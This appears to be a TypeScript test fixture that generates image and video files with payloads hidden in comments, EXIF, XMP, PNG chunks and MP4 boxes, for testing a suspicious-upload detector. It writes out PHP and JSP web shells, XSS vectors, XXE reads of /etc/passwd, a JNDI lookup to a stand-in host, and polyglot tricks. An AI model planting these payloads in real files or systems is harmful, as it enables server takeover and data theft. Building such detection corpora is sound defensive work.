import { deflateSync } from 'node:zlib'
import { bad, type CorpusFile, original } from '../corpus-file.ts'
import { app, comment, exif, exifWith, samsungTrailer, segment, takeApart, withSegments, xmp, xmpPacket } from '../surgery/jpeg.ts'
import { box, edited as editedMp4 } from '../surgery/mp4.ts'
import { dex, elf, html, javaClass, machO, machOBig, pdf, pe, php, rar, wasm } from '../surgery/payloads.ts'
import { before, chunk, internationalText, packedText, profile, rowsOf, text, withPixels } from '../surgery/png.ts'
import { chunksOf, extendedHeader, chunk as riff, webpOf } from '../surgery/webp.ts'

const suspicious = bad('suspicious_content')
const photo = () => original('im-baseline.jpg')
const png = () => original('ff-rgb24.png')
const webp = () => original('cwebp-lossy.webp')
const film = () => original('ff-avc.mp4')
const utf16 = (value: string) => Buffer.from(value, 'utf16le')
const withChunk = (type: string, data: Buffer | string) => webpOf([extendedHeader(64, 48), ...chunksOf(webp()), riff(type, data)])
const inMovie = (extra: Buffer) => editedMp4(film(), (path, body) => (path === 'moov' ? Buffer.concat([body, extra]) : body))

/** Code in comments, in several variants per signature. */
const codes: readonly (readonly [name: string, detail: RegExp, code: string])[] = [
  ['script', /a script in HTML/, '<script>alert(1)</script>'],
  ['script-loud', /a script in HTML/, '<SCRIPT SRC="//x.example/a.js">'],
  ['script-left-open', /a script in HTML/, 'title <script>alert(1)//'],
  ['script-namespaced', /a script in HTML/, '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  ['script-expression', /a script in HTML/, '<script> (function () { go() })()'],
  ['script-comment', /a script in HTML/, '<script>/*'],
  ['script-plain', /a script in HTML/, 'words <script> location = name </script> words'],
  ['php', /PHP code/, '<?php system($_GET["c"]); ?>'],
  ['php-after-names', /PHP code/, '<?php tag; system($_GET["c"]); ?>'],
  ['php-joined-names', /PHP code/, 'a <?php tag and cat or die(system("id"))'],
  ['php-after-mention', /PHP code/, 'says "<?php" in green <?php echo system("id"); ?>'],
  ['php-word', /PHP code/, '<?php echo NAME; include "x";'],
  ['php-binary-string', /PHP code/, '<?php b"x"; system("id");'],
  ['php-label', /PHP code/, '<?php a: b: system("id");'],
  ['php-short', /PHP code/, '<?= `$_GET[0]` ?>'],
  ['php-open', /PHP code/, '<? eval($_POST["x"]); ?>'],
  ['php-echo', /PHP code/, '<?=system($_GET[0])?>'],
  ['asp', /ASP or JSP code/, '<%@ Page Language="C#" %>'],
  ['asp-eval', /ASP or JSP code/, '<% eval request("x") %>'],
  ['jsp', /ASP or JSP code/, '<%= Runtime.getRuntime().exec(request.getParameter("c")) %>'],
  ['jsp-declaration', /ASP or JSP code/, '<%!int a;%>'],
  ['javascript', /a script URL/, 'javascript:alert(document.cookie)'],
  ['javascript-tab', /a script URL/, '<a href="java\tscr\nipt:alert(1)">x</a>'],
  ['javascript-entity', /a script URL/, '<a href="java&#115cript&colon;alert&lpar;1)">x</a>'],
  ['javascript-twice', /a script URL/, 'java&amp;#x73;cript&amp;#58;alert(1)'],
  ['javascript-escaped', /a script URL/, 'javascript:%61lert(1)'],
  ['javascript-value', /a script URL/, 'javascript:"",alert(1)'],
  ['javascript-comment', /a script URL/, 'JaVaScRiPt://%0aalert(1)'],
  ['vbscript', /a script URL/, 'vbscript:msgbox("x")'],
  ['data-page', /a script URL/, 'data:text/html,<b>x</b>'],
  ['handler', /markup with an event handler/, '<img src=x onerror=alert(1)>'],
  ['handler-slash', /markup with an event handler/, '<body/onload=alert(1)>'],
  ['handler-animated', /markup with an event handler/, '<svg><set attributeName="onclick" to="x()"/></svg>'],
  ['handler-svg', /markup with an event handler/, '<svg onload="alert(1)">'],
  ['page', /an HTML page/, '<!DOCTYPE html><title>x</title>'],
  ['page-laid-out', /an HTML page/, '<html lang="en">\n  <!-- x -->\n  <head>\n'],
  ['page-with-words', /an HTML page/, '<html> Sign in here <form action="//x.example/">'],
  ['frame', /markup that loads external content/, '<iframe src="https://x.example/"></iframe>'],
  ['object', /markup that loads external content/, '<object data="x.swf"></object>'],
  ['entity', /an XML entity/, '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'],
  ['entity-bare', /an XML entity/, '<!ENTITY % p SYSTEM "http://x.example/e.dtd">'],
  ['include', /a server-side include/, '<!--#exec cmd="id" -->'],
  ['shell', /a shell script/, '#!/bin/bash\nid\n'],
  ['shell-later', /a shell script/, 'x\n#! /usr/bin/env python3\n'],
  ['batch', /a Windows script/, '@echo off\r\ndel *.*\r\n'],
  ['powershell', /a Windows script/, 'powershell -enc SQBFAFgA'],
  ['jndi', /a JNDI lookup/, `$\{jndi:ldap://x.example/a}`],
  ['pdf', /a PDF/, '%PDF-1.7 1 0 obj'],
  ['php-archive', /a PHP archive|PHP code/, '<?php __HALT_COMPILER(); ?>'],
]

const inComments = codes.map(([name, detail, code]) =>
  suspicious(`comment-${name}.jpg`, detail, `in a comment: ${code.replace(/\s/g, ' ').slice(0, 40)}`, () =>
    withSegments(photo(), comment(code)),
  ),
)

/** Heads of programs and archives, in parts that no decoder shows. */
const heads: readonly (readonly [name: string, detail: RegExp, bytes: () => Buffer])[] = [
  ['linux', /a program for Linux/, elf],
  ['windows', /a program for Windows/, pe],
  ['macos', /a program for macOS/, machO],
  ['macos-old', /a program for macOS/, machOBig],
  ['java', /a Java program/, javaClass],
  ['android', /an Android program/, dex],
  ['webassembly', /a WebAssembly program/, wasm],
  ['rar', /a RAR archive/, rar],
  ['7z', /a 7z archive/, () => original('7z-set.7z')],
  ['zip', /a ZIP/, () => original('zip-comment.zip')],
]

const inSegments = heads.map(([name, detail, bytes]) =>
  suspicious(`segment-${name}.jpg`, detail, `in a segment: the head of ${name}`, () =>
    withSegments(photo(), app(9, Buffer.concat([Buffer.from('xyz\0'), bytes()]))),
  ),
)

const carriers: readonly CorpusFile[] = [
  suspicious('exif-php.jpg', /PHP code in its EXIF data/, 'PHP as the maker in EXIF, where shells were hidden in 2013', () =>
    withSegments(photo(), exif(exifWith(0x010f, `${php().toString()}\0`))),
  ),
  suspicious('exif-script-utf16.jpg', /a script in HTML in its EXIF data/, 'a script in UTF-16, as the tags of Windows are written', () =>
    withSegments(photo(), exif(exifWith(0x9c9b, utf16('<script>alert(1)</script>'), 1))),
  ),
  suspicious('exif-program.jpg', /a program for Linux in its EXIF data/, "a program in a maker's own data", () =>
    withSegments(photo(), exif(exifWith(0x927c, elf(), 7))),
  ),
  suspicious('xmp-script.jpg', /a script in HTML in its XMP data/, 'a script in XMP as it is', () =>
    withSegments(photo(), xmp(xmpPacket('', '<dc:title><script>alert(1)</script></dc:title>'))),
  ),
  suspicious('xmp-escaped.jpg', /a script in HTML in its XMP data/, 'a script in XMP, escaped as writers of XML do', () =>
    withSegments(photo(), xmp(xmpPacket('', '<dc:title>&lt;script&gt;alert(1)&lt;/script&gt;</dc:title>'))),
  ),
  suspicious('xmp-numbers.jpg', /a script in HTML in its XMP data/, 'a script in XMP, its signs by number', () =>
    withSegments(photo(), xmp(xmpPacket('dc:title="&#60;script&#x3E;alert(1)"'))),
  ),
  suspicious('xmp-entity.jpg', /an XML entity in its XMP data/, 'XMP that makes its reader fetch a file', () =>
    withSegments(photo(), xmp('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x:xmpmeta>&a;</x:xmpmeta>')),
  ),
  suspicious('xmp-doctype.jpg', /an XML document type in its XMP data/, 'XMP with a document type, which names an external file', () =>
    withSegments(photo(), xmp(`<!DOCTYPE x SYSTEM "http://x.example/e.dtd">${xmpPacket('')}`)),
  ),
  suspicious(
    'xmp-doctype.png',
    /an XML document type in its chunk 'tEXt'/,
    'XMP with a document type, under the plain name of a text',
    () => before(png(), 'IDAT', text('XML:com.adobe.xmp', `<!doctype x>${xmpPacket('')}`)),
  ),
  suspicious('xmp-svg-script.webp', /a script in HTML in its XMP data/, 'a script element of another namespace in XMP', () =>
    withChunk('XMP ', xmpPacket('', '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert&#40;1)</svg:script>')),
  ),
  suspicious('xmp-address.webp', /a script URL in its XMP data/, 'an address whose letters are apart, in XMP', () =>
    withChunk('XMP ', xmpPacket('dc:source="java&#x9;scr&#10;ipt:alert(1)"')),
  ),
  suspicious('misspelt-xmp.webp', /a script in HTML in its XMP data/, 'a script in XMP whose name is misspelt', () =>
    withChunk('XMP\0', xmpPacket('', '<dc:title><script>alert(1)</script></dc:title>')),
  ),
  suspicious('profile-php.jpg', /PHP code in its colour profile/, 'PHP in the name of a colour profile', () =>
    withSegments(photo(), app(2, `ICC_PROFILE\0\x01\x01${'\0'.repeat(128)}desc<?php eval($_POST[1]); ?>`)),
  ),
  suspicious('photoshop-script.jpg', /a script in HTML in its Photoshop data/, "a script among Photoshop's captions", () =>
    withSegments(photo(), app(13, 'Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20\x1c\x02\x78\0\x14<script>alert(1)</script>')),
  ),
  suspicious(
    'javascript-behind.jpg',
    /a JavaScript program after a comment/,
    'a picture that is a program: its first length opens a comment, which its last one closes',
    () => {
      const { segments, rest } = takeApart(photo())
      const first = segment(0xe0, Buffer.concat([Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1'), Buffer.alloc(0x2f2a - 2 - 14)]))
      const others = Buffer.concat(segments.filter(({ marker }) => marker !== 0xe0).map(({ marker, body }) => segment(marker, body)))
      return Buffer.concat([Buffer.from('ffd8', 'hex'), first, comment('*/=alert(1);/*'), others, rest])
    },
  ),
  suspicious('pdf-and-jpeg.jpg', /a PDF/, 'a picture that is a PDF too', () => withSegments(photo(), comment(pdf()))),
  suspicious('page-and-jpeg.jpg', /a script in HTML|an HTML page/, 'a picture that is a page too', () =>
    withSegments(photo(), comment(html())),
  ),
  suspicious('zip-and-jpeg.jpg', /a ZIP/, 'a picture that is an archive too: in its last comment', () => {
    const bytes = photo()
    const at = bytes.indexOf(Buffer.from([0xff, 0xda]))
    return Buffer.concat([bytes.subarray(0, at), comment(original('zip-comment.zip')), bytes.subarray(at)])
  }),
  suspicious('samsung-program.jpg', /a program for Windows in Samsung's trailer/, "a program in a block of Samsung's trailer", () =>
    Buffer.concat([photo(), samsungTrailer([{ name: 'Image_UTC_Data', data: pe() }])]),
  ),
  suspicious('text.png', /a script in HTML in its chunk 'tEXt'/, 'a script in a text of a PNG', () =>
    before(png(), 'IDAT', text('Comment', '<script>alert(1)</script>')),
  ),
  suspicious('packed-text.png', /PHP code in its chunk 'zTXt'/, 'PHP in a packed text', () =>
    before(png(), 'IDAT', packedText('Comment', php().toString())),
  ),
  // the checksum of the first text is ` "m\xac`: a string begins that hides the next chunk's header from PHP
  suspicious('split-php.png', /PHP code/, 'PHP in two texts, joined by the checksum between them', () =>
    before(png(), 'IDAT', text('Comment', 'a mug 26300 <?php'), text('Author', 'x";system("id");?>')),
  ),
  suspicious('split-php-echo.png', /PHP code/, 'the same with the short tag', () =>
    before(png(), 'IDAT', text('Comment', 'a mug 396 <?='), text('Author', 'x".system("id");?>')),
  ),
  suspicious('international-text.png', /markup that loads external content in its chunk 'iTXt'/, 'a frame in an international text', () =>
    before(png(), 'IDAT', internationalText('Comment', '<iframe src=x>')),
  ),
  suspicious(
    'packed-international-text.png',
    /an event handler in its chunk 'iTXt'|event handler/,
    'a handler in a packed international text',
    () => before(png(), 'IDAT', internationalText('Comment', '<a onclick="x()">y</a>', true)),
  ),
  suspicious('xmp.png', /a script in HTML in its chunk 'iTXt'/, 'a script in the XMP of a PNG, escaped', () =>
    before(png(), 'IDAT', internationalText('XML:com.adobe.xmp', xmpPacket('dc:title="&lt;script&gt;alert(1)&lt;/script&gt;"'))),
  ),
  suspicious('hexadecimal.png', /PHP code in its chunk 'zTXt'/, "PHP in ImageMagick's hexadecimal digits", () =>
    before(png(), 'IDAT', packedText('Raw profile type exif', `\nexif\n      44\n${php().toString('hex')}\n`)),
  ),
  suspicious('profile.png', /a program for Linux in its chunk 'iCCP'|a program for Linux/, 'a program in a packed profile', () =>
    before(png(), 'IDAT', profile(elf())),
  ),
  suspicious('exif.png', /PHP code in its chunk 'eXIf'/, 'PHP in the EXIF of a PNG', () =>
    before(png(), 'IDAT', chunk('eXIf', exifWith(0x010e, `${php().toString()}\0`))),
  ),
  suspicious('private-chunk.png', /a ZIP/, 'an archive in an unknown chunk', () =>
    before(png(), 'IEND', chunk('prVt', original('zip-deflated.zip'))),
  ),
  suspicious(
    'archive-without-directory.png',
    /a ZIP archive in its chunk 'prVt'/,
    'an archive without its directory, in an unknown chunk',
    () => before(png(), 'IEND', chunk('prVt', original('zip-stored.zip').subarray(0, 4000))),
  ),
  suspicious('pixels.png', /PHP code in its bytes/, 'PHP in pixels that are not packed', () => {
    const rows = rowsOf(png())
    rows.write('<?php system($_GET[0]); ?>', 1000, 'latin1')
    return withPixels(png(), deflateSync(rows, { level: 0 }))
  }),
  suspicious('exif.webp', /a script in HTML in its EXIF data/, 'a script in the EXIF of a WebP', () =>
    withChunk('EXIF', exifWith(0x010e, '<script>alert(1)</script>\0')),
  ),
  suspicious('xmp.webp', /a script URL in its XMP data/, 'a script URL in the XMP of a WebP', () =>
    withChunk('XMP ', xmpPacket('dc:source="javascript:alert(1)"')),
  ),
  suspicious('unknown-chunk.webp', /a program for Windows/, 'a program in an unknown chunk of a WebP', () => withChunk('ABCD', pe())),
  suspicious('javascript.webp', /a JavaScript program after a comment/, 'a WebP that is a program: its size opens a comment', () => {
    const size = 0x2a2f
    const chunks = [extendedHeader(64, 48), ...chunksOf(webp()), riff('XMP ', '*/=1;alert(1)//')]
    const filled = webpOf([...chunks, riff('FILL', Buffer.alloc(size - webpOf(chunks).length))]).subarray(0, size + 8)
    filled.writeUInt32LE(size, 4)
    return filled
  }),
  suspicious('free.mp4', /a script in HTML in its box 'free'/, 'a page in a free box', () => Buffer.concat([film(), box('free', html())])),
  suspicious('titles.mp4', /PHP code in its box 'udta'/, 'PHP among the titles of a video', () =>
    inMovie(box('udta', box('\u00a9cmt', php()))),
  ),
  suspicious('uuid.mp4', /an XML entity in its box 'uuid'/, 'an entity in the XMP of a video', () =>
    Buffer.concat([film(), box('uuid', Buffer.from('be7acfcb97a942e89c71999491e3afac', 'hex'), '<!DOCTYPE x [<!ENTITY a "b">]><x/>')]),
  ),
  suspicious(
    'quicktime-xmp.mp4',
    /an XML document type in its box 'udta'/,
    "a document type in XMP where QuickTime's players find it",
    () => inMovie(box('udta', box('XMP_', `<!DOCTYPE x>${xmpPacket('')}`))),
  ),
  suspicious('unknown-box.mp4', /a program for Linux in its box 'zzzz'/, 'a program in an unknown box', () =>
    Buffer.concat([film(), box('zzzz', elf())]),
  ),
  suspicious('archive-at-end.mp4', /a ZIP or JAR archive/, 'a video that is an archive too', () =>
    Buffer.concat([film(), box('free', original('zip-deflated.zip'))]),
  ),
  suspicious(
    'archive-in-media.mp4',
    /a ZIP or JAR archive in its last bytes/,
    'an archive at the end of the media, outside of all samples',
    () => {
      const fast = original('ff-fast-start.mp4')
      const at = fast.indexOf('mdat') - 4
      return Buffer.concat([fast.subarray(0, at), box('mdat', fast.subarray(at + 8), original('zip-deflated.zip'))])
    },
  ),
]

export const suspiciousFiles: readonly CorpusFile[] = [...inComments, ...inSegments, ...carriers]
